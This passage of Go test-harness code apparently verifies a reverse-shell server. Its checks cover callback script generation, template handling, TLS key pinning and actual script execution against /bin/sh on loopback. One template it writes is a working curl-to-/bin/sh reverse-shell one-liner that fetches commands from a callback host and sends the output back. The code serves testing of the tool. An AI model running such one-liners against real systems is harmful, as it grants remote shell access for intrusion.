							q := c07Req{Param: p[0], ParamWire: p[1], Form: form, Chunked: "form-chunked" == formKind, Header: hdr, Host: h[0], HostWant: h[1], SNI: sni}
							if q.Chunked && "" == q.Host {
								continue /* HTTP/1.0 knows no chunks. */
							}
							if "!" == q.HostWant {
								if "" == q.Param && "" == q.Header {
									continue
								}
								q.HostWant = q.Host
							}
							c, err := w.Dial(sni)
							if nil != err {
								ev.Broken("dial: %s", err)
							}
							pin, _ := c.LeafPin()
							res, err := c.Do(q.raw())
							c.Close()
							r.Add(1)
							r.AddDistinct(1)
							if nil != err {
								v("request-failed", fmt.Sprintf("%+v: %v", q, err), q)
								continue
							}
							notices := w.Drain()
							want := c07Expected(q, w.Port)
							if 400 == res.Status && "" != q.Host && q.Host != q.HostWant && 0 == len(notices) {
								/* net/http itself refused the non-ASCII Host header. */
								r.Inc("idn_host_rejected_by_net_http", 1)
								continue
							}
							if "" == want {
								if res.Status < 400 || bytes.Contains(res.Body, []byte("curl")) {
									v("script-without-address", fmt.Sprintf("%+v: no address source, yet status %d body %q", q, res.Status, trunc80(string(res.Body))), q)
								}
								continue
							}
							if 200 != res.Status {
								v("no-script", fmt.Sprintf("%+v: status %d, notices %s", q, res.Status, hworld.NoticeText(notices)), q)
								continue
							}
							id, problem := c07CheckScript(res.Body, want, pin)
							if "" != problem {
								v("script-wrong/"+c07Source(q), fmt.Sprintf("%+v (listen %s): %s", q, listen, problem), q)
								continue
							}
							if seen[id] {
								v("id-repeated", fmt.Sprintf("ID %q was handed out twice", id), q)
							}
							seen[id] = true
						}
					}
				}
			}
		}
		w.Stop()
	}
	r.Sample(4, c07Req{Param: "p.example/x~y", ParamWire: "p.example%2Fx%7Ey", Form: true, Header: "h.example:9443", Host: "host.example", HostWant: "host.example", SNI: "sni.example"})

	/* (c) freshness. */
	{
		w, err := hworld.Start(hworld.Config{})
		if nil != err {
			ev.Broken("%s", err)
		}
		c, _ := w.Dial("")
		pin, _ := c.LeafPin()
		n := 2000
		if quick {
			n = 500
		}
		for i := 0; i < n; i++ {
			res, err := c.Do(hworld.Get("/c", w.Addr))
			if nil != err {
				ev.Broken("%s", err)
			}
			id, problem := c07CheckScript(res.Body, w.Addr, pin)
			if "" != problem {
				v("script-wrong/series", problem, nil)
				break
			}
			if seen[id] {
				v("id-repeated", fmt.Sprintf("ID %q was handed out twice", id), nil)
			}
			seen[id] = true
			w.Drain()
		}
		c.Close()
		w.Stop()
		r.Add(n)
		r.AddDistinct(n)
		r.Set("distinct_ids_seen", len(seen))
	}

	/* (c') freshness, and each script built from its own request, when
	scripts are requested concurrently. */
	{
		nper := 1500
		if !quick {
			nper = 6000
		}
		ids, problems := scriptsConcurrently(nper)
		for id, n := range ids {
			if n > 1 {
				v("id-repeated/concurrent", fmt.Sprintf("ID %q was handed out %d times to concurrent requests", id, n), nil)
			}
		}
		for _, pr := range problems {
			v("script-wrong/concurrent", pr, nil)
		}
		r.Add(len(ids))
		r.AddDistinct(len(ids))
		r.Set("concurrent_scripts_distinct_ids", len(ids))
	}

	/* (b) template histories. */
	depth := 4
	if !quick {
		depth = 5
	}
	c07Templates(r, base, depth)

	/* (d) execution. */
	c07Execute(r, base)
	r.Assume("the callback address must route back to this host for an execution; addresses that do not (example names) are checked textually only")
	r.Assume("/bin/sh and curl of this image run the script")
}

func c07Source(q c07Req) string {
	switch {
	case "" != q.Param:
		return "param"
	case "" != q.Header:
		return "header"
	case "" != q.Host:
		return "host"
	}
	return "sni"
}

var c07Ops = []string{"writeT1", "writeT2", "writeUnparsable", "writeFailing", "remove", "writeBig"}

// c07Templates enumerates histories of template-file operations.
func c07Templates(r *ev.Result, base string, depth int) {
	contents := map[string]string{
		"writeT1":         "one {{.URL}} {{.ID}} {{.PubkeyFP}}\n",
		"writeT2":         "two {{.ID}} {{.URL}}\n",
		"writeUnparsable": "bad {{.URL",
		"writeFailing":    "failing {{.URL}} {{.NoSuchField}}\n",
		/* A template carrying a library of shell functions in front of the
		callback lines (~100 kB). */
		"writeBig": strings.Repeat("helper() { : some function the operator wants on every target; }\n", 1600) + "big {{.ID}} {{.URL}}\n",
	}
	var hists [][]string
	var rec func(cur []string)
	rec = func(cur []string) {
		if 0 != len(cur) {
			hists = append(hists, append([]string{}, cur...))
		}
		if len(cur) == depth {
			return
		}
		for _, op := range c07Ops {
			rec(append(cur, op))
		}
	}
	rec(nil)
	n := 0
	/* What the file is when the server starts: good, missing, unparsable. */
	inits := []string{"writeT1", "remove", "writeUnparsable"}
	parallel(len(hists)*len(inits), func(k int) {
		hi, init := k/len(inits), inits[k%len(inits)]
		h := hists[hi]
		if "writeT1" != init && len(h) > 3 {
			return /* The other start-up states with histories up to 3 operations. */
		}
		tf := filepath.Join(base, fmt.Sprintf("tmpl-%d-%s", hi, init))
		defer os.Remove(tf)
		/* Every other history has the configured path be a symbolic link
		that each write re-points at a new file (a release directory, a
		mounted configuration): the path as configured is what counts. */
		viaLink := 1 == hi%2
		nWritten := 0
		writeT := func(content string) {
			if !viaLink {
				os.WriteFile(tf, []byte(content), 0o644)
				return
			}
			nWritten++
			target := fmt.Sprintf("%s.v%d", tf, nWritten)
			os.WriteFile(target, []byte(content), 0o644)
			os.Symlink(filepath.Base(target), tf+".new")
			os.Rename(tf+".new", tf)
		}
		defer func() {
			for k := 1; k <= nWritten; k++ {
				os.Remove(fmt.Sprintf("%s.v%d", tf, k))
			}
		}()
		if "remove" != init {
			writeT(contents[init])
		}
		h = append([]string{init + "@start"}, h...)
		w, err := hworld.Start(hworld.Config{Tmplf: tf})
		if nil != err {
			ev.Broken("%s", err)
		}
		defer w.Stop()
		c, err := w.Dial("")
		if nil != err {
			ev.Broken("%s", err)
		}
		defer c.Close()
		for step, op := range h {
			if strings.HasSuffix(op, "@start") {
				/* The state the server was started in: requests must see it as it is. */
				op = strings.TrimSuffix(op, "@start")
			} else if "remove" == op {
				os.Remove(tf)
			} else {
				writeT(contents[op])
			}
			for rq := 0; rq < 2; rq++ {
				res, err := c.Do(hworld.Get("/c?c2=cb.example", w.Addr))
				if nil != err {
					ev.Broken("%s", err)
				}
				body := string(res.Body)
				bad := ""
				switch op {
				case "writeT1":
					if 200 != res.Status || !strings.HasPrefix(body, "one cb.example ") {
						bad = "the current template (T1) was not rendered"
					}
				case "writeT2":
					if 200 != res.Status || !strings.HasPrefix(body, "two ") || !strings.HasSuffix(body, " cb.example\n") {
						bad = "the current template (T2) was not rendered"
					}
				case "writeBig":
					if 200 != res.Status || !strings.HasPrefix(body, "helper() {") || !strings.HasSuffix(body, " cb.example\n") || 1600 != strings.Count(body, "helper() {") || !strings.Contains(body, "\nbig ") {
						bad = fmt.Sprintf("the current template (100 kB of functions, then the callback lines) was not rendered in full: %d bytes, ends %q", len(body), tail(body, 40))
					}
				default:
					if res.Status < 400 {
						bad = "no error status although the template is missing/unusable"
					} else if strings.Contains(body, "cb.example") || strings.Contains(body, "one ") || strings.Contains(body, "two ") || strings.Contains(body, "curl") {
						bad = "an error response carrying (part of) a script"
					}
				}
				if "" != bad {
					r.Violate(ev.Violation{
						Signature: "template/" + op + fmt.Sprintf("/request%d", rq+1),
						What:      fmt.Sprintf("history %v (template path is a symbolic link: %v), after step %d (%s), request %d: %s (status %d, body %q)", h, viaLink, step+1, op, rq+1, bad, res.Status, trunc80(body)),
						Kind:      "c07", Replay: map[string]any{"template_history": h},
					})
				}
				w.Drain()
			}
		}
	})
	n = len(hists) * 2
	r.Add(n)
	r.AddDistinct(n)
	r.Set("template_histories", n)
	r.Sample(4, map[string]any{"template_history": hists[len(hists)/2]})
}

// c07Execute pipes real scripts to /bin/sh.
func c07Execute(r *ev.Result, base string) {
	type src struct {
		name string
		req  func(w *hworld.World) (raw, sni string)
	}
	srcs := []src{
		{"host", func(w *hworld.World) (string, string) { return hworld.Get("/c", "127.0.0.1:"+w.Port), "" }},
		{"c2-param", func(w *hworld.World) (string, string) {
			return hworld.Get("/c?c2=127.0.0.1:"+w.Port, "unroutable.invalid"), ""
		}},
		{"c2-header-ipv6", func(w *hworld.World) (string, string) {
			return hworld.Get("/c", "unroutable.invalid", "c2: [::1]:"+w.Port), ""
		}},
		{"sni", func(w *hworld.World) (string, string) { return "GET /c HTTP/1.0\r\n\r\n", "localhost" }},
	}
	custom := filepath.Join(base, "custom.tmpl")
	os.WriteFile(custom, []byte("#!/bin/sh\n# custom\ncurl -Nsk --pinnedpubkey \"sha256//{{.PubkeyFP}}\" https://{{.URL}}/i/{{.ID}} </dev/null 2>&0 | /bin/sh 2>&1 | curl -Nsk --pinnedpubkey \"sha256//{{.PubkeyFP}}\" https://{{.URL}}/o/{{.ID}} -T- >/dev/null 2>&1\n"), 0o644)
	n := 0
	for _, tf := range []string{"", custom} {
		for _, s := range srcs {
			w, err := hworld.Start(hworld.Config{Listen: "[::]:0", Tmplf: tf, CbAddrs: []string{"cb.example"}})
			if nil != err {
				r.Set("dual_stack_listen_unavailable", err.Error())
				return
			}
			raw, sni := s.req(w)
			c, err := hworld.DialAddr("127.0.0.1:"+w.Port, sni)
			if nil != err {
				ev.Broken("%s", err)
			}
			res, err := c.Do(raw)
			c.Close()
			what := fmt.Sprintf("address source %s, template %q", s.name, filepath.Base(tf))
			rp := map[string]any{"execute": s.name, "template": filepath.Base(tf)}
			if nil != err || 200 != res.Status {
				r.Violate(ev.Violation{Signature: "execute/no-script/" + s.name, What: fmt.Sprintf("%s: no script: %v %v", what, err, res), Kind: "c07", Replay: rp})
				w.Stop()
				continue
			}
			w.Drain()
			cmd := exec.Command("/bin/sh")
			cmd.Stdin = bytes.NewReader(res.Body)
			var serr bytes.Buffer
			cmd.Stderr = &serr
			if err := cmd.Start(); nil != err {
				ev.Broken("sh: %s", err)
			}
			done := make(chan error, 1)
			go func() { done <- cmd.Wait() }()
			fail := func(stage string, ns []opshell.CLine) {
				r.Violate(ev.Violation{Signature: "execute/" + stage + "/" + s.name, What: fmt.Sprintf("%s: %s never happened; notices %s; script %q; sh stderr %q", what, stage, hworld.NoticeText(ns), res.Body, serr.String()), Kind: "c07", Replay: rp})
			}
			ok := true
			var inOK, outOK, ready bool
			ns, _ := w.WaitNotice(func(cl opshell.CLine) bool {
				inOK = inOK || strings.Contains(cl.Line, "Input connected: ID")
				outOK = outOK || strings.Contains(cl.Line, "Output connected: ID")
				ready = ready || strings.Contains(cl.Line, "Shell is ready")
				return inOK && outOK && ready
			})
			if !(inOK && outOK && ready) {
				fail("attach", ns)
				ok = false
			}
			if ok {
				w.Ich <- "echo MARK-$((6*7))"
				if ns, got := w.WaitNotice(func(cl opshell.CLine) bool { return cl.Plain && strings.Contains(cl.Line, "MARK-42") }); !got {
					fail("marker-round-trip", ns)
					ok = false
				}
			}
			if ok {
				w.Ich <- "exit"
				if ns, got := w.WaitNotice(func(cl opshell.CLine) bool { return strings.Contains(cl.Line, "Shell is gone") }); !got {
					fail("gone-notice", ns)
				}
			}
			select {
			case <-done:
			case <-time.After(5 * time.Second):
				cmd.Process.Kill()
				<-done
			}
			w.Stop()
			n++
		}
	}
	r.Add(n)
	r.AddDistinct(n)
	r.Set("scripts_executed", n)
	r.Sample(4, map[string]any{"executed": "script for source c2-header-ipv6 with the custom template, marker echo MARK-$((6*7))"})
}

func c07Replay(kind string, raw json.RawMessage) int {
	var q c07Req
	var m map[string]any
	json.Unmarshal(raw, &m)
	if _, ok := m["template_history"]; ok || nil == m {
		fmt.Println("template-history and execution findings are replayed by re-running the check (./run C07 quick): they are deterministic and complete in seconds")
		return 2
	}
	if err := json.Unmarshal(raw, &q); nil != err {
		return 2
	}
	w, err := hworld.Start(hworld.Config{})
	if nil != err {
		fmt.Println(err)
		return 2
	}
	defer w.Stop()
	c, _ := w.Dial(q.SNI)
	pin, _ := c.LeafPin()
	res, err := c.Do(q.raw())
	if nil != err {
		fmt.Println(err)
		return 2
	}
	want := c07Expected(q, w.Port)
	fmt.Printf("request %q\nstatus %d\nbody %q\nexpected address %q pin %q\n", q.raw(), res.Status, res.Body, want, pin)
	if _, problem := c07CheckScript(res.Body, want, pin); "" != problem && "" != want {
		fmt.Println("reproduced:", problem)
		return 1
	}
	fmt.Println("not reproduced")
	return 0
}

// scriptsConcurrently has 16 clients ask for scripts at the same time, each
// with a callback address of its own (and of its own length), nper times; it
// returns how often each ID was handed out and what was wrong with any script
// (at most 5 descriptions).  A sampling complement: the schedules are the
// runtime's.
func scriptsConcurrently(nper int) (ids map[string]int, problems []string) {
	w, err := hworld.Start(hworld.Config{})
	if nil != err {
		ev.Broken("%s", err)
	}
	var (
		mu sync.Mutex
		wg sync.WaitGroup
	)
	ids = map[string]int{}
	for g := 0; g < 16; g++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			c, err := w.Dial("")
			if nil != err {
				return
			}
			defer c.Close()
			pin, _ := c.LeafPin()
			addr := fmt.Sprintf("client%d%s.example:%d", g, strings.Repeat("x", g*7), 1000+g)
			local := make([]string, 0, nper)
			var probs []string
			for i := 0; i < nper; i++ {
				res, err := c.Do(hworld.Get("/c?c2="+addr, w.Addr))
				if nil != err {
					break
				}
				id, problem := c07CheckScript(res.Body, addr, pin)
				if "" != problem && len(probs) < 2 {
					probs = append(probs, fmt.Sprintf("client %d of 16 concurrent ones, request %d for callback address %q: %s", g, i, addr, problem))
				}
				if "" != id {
					local = append(local, id)
				}
			}
			mu.Lock()
			for _, id := range local {
				ids[id]++
			}
			if len(problems) < 5 {
				problems = append(problems, probs...)
			}
			mu.Unlock()
		}()
	}
	done := make(chan struct{})
	go func() { wg.Wait(); close(done) }()
	for drained := false; !drained; {
		select {
		case <-done:
			drained = true
		default:
			w.Drain()
			time.Sleep(time.Millisecond)
		}
	}
	w.Stop()
	return ids, problems
}
