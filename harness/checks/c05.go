package checks

/*
 * C05 — every advertised fingerprint is the pin of the key the listener
 * really serves.  The full product of configurations (key source x listen
 * address form x callback addresses x files x template) is started for real;
 * every fingerprint shown anywhere is compared with the pin computed from the
 * certificate seen on the wire; real curl --pinnedpubkey must accept the
 * advertised value and refuse any other; restart chains and overlapping
 * instances sharing a cache path are included.
 */

import (
	"bytes"
	"crypto"
	"crypto/ecdsa"
	"crypto/ed25519"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/rsa"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"math/big"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"sort"
	"strings"
	"sync"
	"time"

	"github.com/magisterquis/curlrevshell/lib/opshell"
	"github.com/magisterquis/curlrevshell/lib/sstls"
	"github.com/magisterquis/curlrevshell/verifx/ev"
	"github.com/magisterquis/curlrevshell/verifx/hworld"
)

func init() {
	registry["C05"] = checkDef{level: "exploration", run: c05, replay: c05Replay}
}

var (
	c05PinRE    = regexp.MustCompile(`sha256//([A-Za-z0-9+/=]*)`)
	c05NoHost   = regexp.MustCompile(`https://(/|\s|$|:)`)
	c05OneLiner = regexp.MustCompile(`curl -sk --pinnedpubkey sha256//(\S+) https://(\S+?)(/c \| /bin/sh)?(\n|$)`)
)

type c05Config struct {
	KeySource string   `json:"key_source"` /* none | cache-new | cache-reused */
	Listen    string   `json:"listen"`
	Callback  []string `json:"callback_addresses"`
	Files     bool     `json:"serve_files"`
	Template  bool     `json:"custom_template"`
}

// c05Wire handshakes and returns the pin of the served leaf.
func c05Wire(w *hworld.World, sni string) (string, error) {
	host := "127.0.0.1"
	if strings.Contains(w.Addr, "[::1]") {
		host = "::1"
	}
	c, err := hworld.DialAddr(net.JoinHostPort(host, w.Port), sni)
	if nil != err {
		/* A wildcard v6-only or v4-only listener. */
		if c, err = hworld.DialAddr(net.JoinHostPort("::1", w.Port), sni); nil != err {
			return "", err
		}
	}
	defer c.Close()
	return c.LeafPin()
}

// c05CheckNotices checks every fingerprint and every one-liner's port in a
// set of notices.
func c05CheckNotices(v func(sig, what string), where string, notices []opshell.CLine, wire string, w *hworld.World, cfg c05Config) (pins int) {
	userPort := map[string]bool{}
	for _, cb := range cfg.Callback {
		if _, p, err := net.SplitHostPort(cb); nil == err && "" != p {
			userPort[cb] = true
		}
	}
	seenAddr := map[string]bool{}
	defer func() {
		/* A port the user supplied is the port that is printed. */
		if 0 == len(seenAddr) {
			return
		}
		for cb := range userPort {
			if !seenAddr[cb] {
				v("user-port-not-kept/"+where, fmt.Sprintf("%s: the user gave the callback address %q, none of the one-liners names it (they name %v)", where, cb, keysOf(seenAddr)))
			}
		}
	}()
	for _, cl := range notices {
		if m := c05NoHost.FindString(cl.Line); "" != m {
			v("one-liner-without-address/"+where, fmt.Sprintf("%s: a printed command names no host to call back to: %q", where, trunc80(cl.Line)))
		}
		for _, m := range c05PinRE.FindAllStringSubmatch(cl.Line, -1) {
			pins++
			if m[1] != wire {
				v("advertised-pin-differs/"+where, fmt.Sprintf("%s shows pin %q, the listener presents %q (notice %q)", where, m[1], wire, trunc80(cl.Line)))
			}
		}
		for _, m := range c05OneLiner.FindAllStringSubmatch(cl.Line, -1) {
			addr := m[2]
			seenAddr[addr] = true
			if userPort[addr] {
				continue
			}
			_, p, err := net.SplitHostPort(addr)
			if nil != err || p != w.Port {
				v("one-liner-port/"+where, fmt.Sprintf("%s names %q, the listener is bound to port %s and the user gave no port for it", where, addr, w.Port))
			}
		}
	}
	return pins
}

// c05Curl runs real curl with a pin.
func c05Curl(pin, url string, extra ...string) (status int, body []byte) {
	cmd := exec.Command("curl", append(append([]string{"-sk", "--max-time", "20", "--pinnedpubkey", "sha256//" + pin}, extra...), url)...)
	var out bytes.Buffer
	cmd.Stdout = &out
	err := cmd.Run()
	if ee, ok := err.(*exec.ExitError); ok {
		return ee.ExitCode(), out.Bytes()
	} else if nil != err {
		return -1, nil
	}
	return 0, out.Bytes()
}

func c05RunConfig(r *ev.Result, base string, idx int, cfg c05Config, cache string) (advertised string, started bool) {
	v := func(sig, what string) {
		r.Violate(ev.Violation{Signature: sig, What: fmt.Sprintf("config %+v: %s", cfg, what), Kind: "c05", Replay: cfg})
	}
	hc := hworld.Config{Listen: cfg.Listen, CbAddrs: cfg.Callback, CertFile: cache}
	if cfg.Files {
		hc.FDir = filepath.Join(base, "files")
	}
	if cfg.Template {
		hc.Tmplf = filepath.Join(base, "custom.tmpl")
	}
	w, err := hworld.Start(hc)
	if nil != err {
		/* A start the program refuses (e.g. a wildcard address on a host
		without interfaces) is C20's business. */
		r.Inc("configurations_refused_at_start", 1)
		r.Set("last_start_refusal", err.Error())
		return "", false
	}
	defer w.Stop()
	if 0 == idx%3 {
		/* Four connections that never say anything are around (a scanner,
		a health check, nc): no concern of the clients that do. */
		for _, h := range []string{"127.0.0.1", "::1", "127.0.0.1", "::1", "127.0.0.1", "::1"} {
			if c, err := net.DialTimeout("tcp", net.JoinHostPort(h, w.Port), 5*time.Second); nil == err {
				defer c.Close()
			}
		}
	}
	wire, err := c05Wire(w, "")
	if nil != err {
		v("handshake-failed", err.Error())
		return "", true
	}
	if w2, err := c05Wire(w, "with.sni.example"); nil == err && w2 != wire {
		v("served-key-varies", fmt.Sprintf("two handshakes saw different keys: %q, %q", wire, w2))
	}
	/* Whatever answers on the port, on either loopback address, serves
	scripts that pin the key it presents (a second socket for the other
	address family included). */
	for _, h := range []string{"127.0.0.1", "::1"} {
		if c, err := hworld.DialAddr(net.JoinHostPort(h, w.Port), ""); nil == err {
			/* (Judged on that connection alone: another server of this
			very check may have been given the same port number on the
			other address family.) */
			p, _ := c.LeafPin()
			if res, err := c.Do(hworld.Get("/c", net.JoinHostPort(h, w.Port))); nil == err && 200 == res.Status {
				for _, m := range c05PinRE.FindAllSubmatch(res.Body, -1) {
					if string(m[1]) != p {
						v("advertised-pin-differs/other-address-family", fmt.Sprintf("on %s the port presents key %q and serves a script pinning %q", h, p, m[1]))
					}
				}
			}
			c.Close()
		}
	}
	n := c05CheckNotices(v, "start-up", w.Startup, wire, w, cfg)
	if 0 == n {
		v("no-pin-at-start-up", "no fingerprint among the start-up notices: "+hworld.NoticeText(w.Startup))
	}
	/* Two /c bodies. */
	host := "127.0.0.1"
	if strings.Contains(w.Addr, "[::1]") {
		host = "::1"
	}
	hp := net.JoinHostPort(host, w.Port)
	for i := 0; i < 2; i++ {
		c, err := hworld.DialAddr(hp, "")
		if nil != err {
			v("handshake-failed", err.Error())
			return wire, true
		}
		res, err := c.Do(hworld.Get("/c", hp))
		c.Close()
		if nil != err || 200 != res.Status {
			v("no-script", fmt.Sprintf("/c: %v %v", err, res))
			continue
		}
		ms := c05PinRE.FindAllSubmatch(res.Body, -1)
		if 2 != len(ms) {
			v("script-pins", fmt.Sprintf("%d fingerprints in the script %q", len(ms), res.Body))
		}
		for _, m := range ms {
			if string(m[1]) != wire {
				v("advertised-pin-differs/script", fmt.Sprintf("script pins %q, the listener presents %q", m[1], wire))
			}
		}
	}
	/* Requests for /c that are refused: whatever their answer carries, it
	is no script pinning anything but the listener's key. */
	for _, target := range []string{"/c?x=%zz", "/c?c2=h.example;x=1", "/c?%"} {
		c, err := hworld.DialAddr(hp, "")
		if nil != err {
			break
		}
		res, err := c.Do(hworld.Get(target, hp))
		c.Close()
		if nil != err {
			continue
		}
		for _, m := range regexp.MustCompile(`--pinnedpubkey\s+"?(sha256//)?([A-Za-z0-9+/=]*)`).FindAllSubmatch(res.Body, -1) {
			if string(m[2]) != wire {
				v("advertised-pin-differs/refused-script-request", fmt.Sprintf("the answer to %s (status %d) carries a curl command pinning %q, the listener presents %q: %q", target, res.Status, m[2], wire, trunc80(string(res.Body))))
			}
		}
	}
	w.Drain()
	/* A shell that dies: the help is printed again. */
	ci, err1 := hworld.DialAddr(hp, "")
	co, err2 := hworld.DialAddr(hp, "")
	if nil == err1 && nil == err2 {
		ci.Send(hworld.Get("/i/k", hp))
		w.WaitNotice(func(cl opshell.CLine) bool { return strings.Contains(cl.Line, "Input connected") })
		co.Send("POST /o/k HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n")
		w.WaitNotice(func(cl opshell.CLine) bool { return strings.Contains(cl.Line, "Shell is ready") })
		ci.Close()
		co.Close()
		ns, ok := w.WaitNotice(func(cl opshell.CLine) bool { return strings.HasPrefix(cl.Line, "\ncurl ") })
		if !ok {
			v("help-not-reprinted", "after the shell died no one-liners were printed: "+hworld.NoticeText(ns))
		} else if 0 == c05CheckNotices(v, "re-printed help", ns, wire, w, cfg) {
			v("no-pin-in-reprinted-help", hworld.NoticeText(ns))
		}
	}
	/* Real curl: advertised pin accepted, any other refused. */
	if 0 == idx%3 || "none" != cfg.KeySource {
		url := "https://" + hp + "/c"
		if st, body := c05Curl(wire, url); 0 != st || !bytes.Contains(body, []byte("curl")) {
			v("curl-rejects-advertised-pin", fmt.Sprintf("curl --pinnedpubkey with the advertised pin: status %d body %q", st, trunc80(string(body))))
		}
		/* ... also a client that speaks nothing newer than TLS 1.2. */
		if 0 == idx%6 {
			if st, body := c05Curl(wire, url, "--tls-max", "1.2"); 0 != st || !bytes.Contains(body, []byte("curl")) {
				v("curl-tls12-rejects-advertised-pin", fmt.Sprintf("curl --tls-max 1.2 --pinnedpubkey with the advertised pin: status %d body %q", st, trunc80(string(body))))
			}
			r.Inc("curl_runs", 1)
		}
		wrong := []byte(wire)
		if 'A' == wrong[5] {
			wrong[5] = 'B'
		} else {
			wrong[5] = 'A'
		}
		if st, body := c05Curl(string(wrong), url); 0 == st || 0 != len(body) {
			v("curl-accepts-other-pin", fmt.Sprintf("curl --pinnedpubkey with another pin: status %d body %q", st, trunc80(string(body))))
		}
		r.Inc("curl_runs", 2)
	}
	return wire, true
}

func c05(r *ev.Result, tier string) {
	quick := isQuick(tier)
	listens := []string{"127.0.0.1:0", "127.0.0.1", "[::1]:0", "::1", "0.0.0.0:0", "[::]:0", "localhost:0", "localhost"}
	callbacks := [][]string{nil, {"cb.example"}, {"cb.example:9999"}, {"cb.example", "other.example:8443"}, {"2001:db8::1"}, {"192.0.2.77"}, {"high.example:50443", "[2001:db8::2]:65535"},
		/* The same address twice; the loopback addresses themselves (equal
		to the listen address, or one of the box's own, once the port is
		filled in). */
		{"cb.example", "cb.example"}, {"127.0.0.1", "::1"}, {"dup.example:8443", "a.example", "dup.example:8443"}}
	r.Rule = fmt.Sprintf("product of key source {none, cache created, cache reused over a chain of 3 starts} x listen forms %v x callback addresses %v x files {off,on} x template {default,custom}; "+
		"per configuration: two handshakes, every sha256// value in the start-up notices, in the help re-printed after a shell died and in two /c bodies compared with the pin computed from the wire certificate, "+
		"port of every one-liner, real curl with the advertised pin and with a one-character variant; plus overlapping instances on one cache path. distinct = distinct configurations (x runs in a chain).", listens, callbacks)
	base := ev.Scratch("c05-")
	defer os.RemoveAll(base)
	os.MkdirAll(filepath.Join(base, "files"), 0o755)
	os.WriteFile(filepath.Join(base, "files", "f"), []byte("f\n"), 0o644)
	os.WriteFile(filepath.Join(base, "custom.tmpl"), []byte("curl one sha256//{{.PubkeyFP}} curl two sha256//{{.PubkeyFP}} url={{.URL}} id={{.ID}}\n"), 0o644)

	var cfgs []c05Config
	for _, ks := range []string{"none", "cache"} {
		for _, l := range listens {
			for _, cb := range callbacks {
				for _, f := range []bool{false, true} {
					for _, t := range []bool{false, true} {
						if quick && f != t {
							continue
						}
						cfgs = append(cfgs, c05Config{KeySource: ks, Listen: l, Callback: cb, Files: f, Template: t})
					}
				}
			}
		}
	}
	var mu sync.Mutex
	parallel(len(cfgs), func(i int) {
		cfg := cfgs[i]
		runs := 1
		cache := ""
		if "cache" == cfg.KeySource {
			cache = filepath.Join(base, fmt.Sprintf("cache-%d", i), "sub", "cert.txtar")
			runs = 3
		}
		var first string
		for k := 0; k < runs; k++ {
			c := cfg
			if k > 0 {
				c.KeySource = "cache-reused"
			} else if "cache" == c.KeySource {
				c.KeySource = "cache-new"
			}
			pin, started := c05RunConfig(r, base, i+k, c, cache)
			if !started {
				break
			}
			if 0 == k {
				first = pin
			} else if pin != first && "" != pin {
				r.Violate(ev.Violation{Signature: "restart-changes-key", What: fmt.Sprintf("config %+v: run %d of a restart chain on one cache presents %q, the first run presented %q", cfg, k+1, pin, first), Kind: "c05", Replay: cfg})
			}
			mu.Lock()
			r.Evaluations++
			r.Distinct++
			mu.Unlock()
		}
	})
	if custom := true; custom {
		r.Sample(4, cfgs[len(cfgs)/3])
		r.Sample(4, cfgs[2*len(cfgs)/3])
	}

	/* Caches a user may hand the program: a certificate section holding a
	chain (leaf first), and a certificate whose validity has passed. */
	c05OddCaches(r, base)
	/* Overlapping instances on one cache path. */
	c05Overlap(r, base)
	/* Scripts requested by 16 clients at once: both pins of every one are
	the listener's (a sampling complement for shared rendering state). */
	{
		n := 400
		if !quick {
			n = 4000
		}
		ids, problems := scriptsConcurrently(n)
		for _, pr := range problems {
			r.Violate(ev.Violation{Signature: "advertised-pin-differs/concurrent-scripts", What: pr, Kind: "c05", Replay: map[string]string{"scenario": "concurrent-scripts"}})
		}
		r.Add(len(ids))
		r.Set("concurrent_scripts_checked", len(ids))
	}
	/* The real binary: what the terminal shows. */
	c05RealBinary(r, base)
	r.Assume("key values are not enumerable (ecdsa.GenerateKey is deliberately non-deterministic); the oracle is relational, so every generated key is checked against what was advertised for it")
	r.Assume("configurations the program refuses to start with (wildcard address without any interface address) are outside this property (C20 owns start-up failures)")
}

// c05OddCaches starts the server on hand-made cache files.
func c05OddCaches(r *ev.Result, base string) {
	/* (1) leaf + another certificate in the cert section. */
	leaf, _ := c13Cert("leaf.example")
	_, other := c13Cert("issuer.example")
	keyDER, err := x509.MarshalPKCS8PrivateKey(leaf.PrivateKey)
	if nil != err {
		ev.Broken("%s", err)
	}
	var certPEM bytes.Buffer
	pem.Encode(&certPEM, &pem.Block{Type: "CERTIFICATE", Bytes: leaf.Certificate[0]})
	pem.Encode(&certPEM, &pem.Block{Type: "CERTIFICATE", Bytes: other.Raw})
	keyPEM := pem.EncodeToMemory(&pem.Block{Type: "PRIVATE KEY", Bytes: keyDER})
	chain := filepath.Join(base, "chain-cache", "cert.txtar")
	os.MkdirAll(filepath.Dir(chain), 0o700)
	os.WriteFile(chain, []byte("Hand-made\n-- cert --\n"+certPEM.String()+"-- key --\n"+string(keyPEM)), 0o600)
	/* (2) a cache generated with a lifespan that has passed by now. */
	expired := filepath.Join(base, "expired-cache", "cert.txtar")
	if _, err := sstls.GetCertificate("", nil, nil, time.Nanosecond, expired); nil != err {
		ev.Broken("%s", err)
	}
	time.Sleep(5 * time.Millisecond)
	caches := []struct{ name, path string }{{"cache-with-chain", chain}, {"cache-expired", expired}}
	/* (3) caches that hold a key of another kind than the program would
	generate (made by an earlier version, by hand, by another tool): the
	advertised pin is that key's all the same. */
	for _, kind := range []string{"ecdsa-p256", "ecdsa-p384", "ecdsa-p521", "ed25519", "rsa-2048"} {
		var (
			priv crypto.Signer
			err  error
		)
		switch kind {
		case "ecdsa-p256":
			priv, err = ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
		case "ecdsa-p384":
			priv, err = ecdsa.GenerateKey(elliptic.P384(), rand.Reader)
		case "ecdsa-p521":
			priv, err = ecdsa.GenerateKey(elliptic.P521(), rand.Reader)
		case "ed25519":
			_, priv, err = ed25519.GenerateKey(rand.Reader)
		case "rsa-2048":
			priv, err = rsa.GenerateKey(rand.Reader, 2048)
		}
		if nil != err {
			ev.Broken("%s", err)
		}
		tmpl := &x509.Certificate{SerialNumber: big.NewInt(int64(len(kind)) + 77), Subject: pkix.Name{CommonName: kind + ".example"},
			NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(24 * time.Hour), KeyUsage: x509.KeyUsageDigitalSignature, ExtKeyUsage: []x509.ExtKeyUsage{x509.ExtKeyUsageServerAuth}}
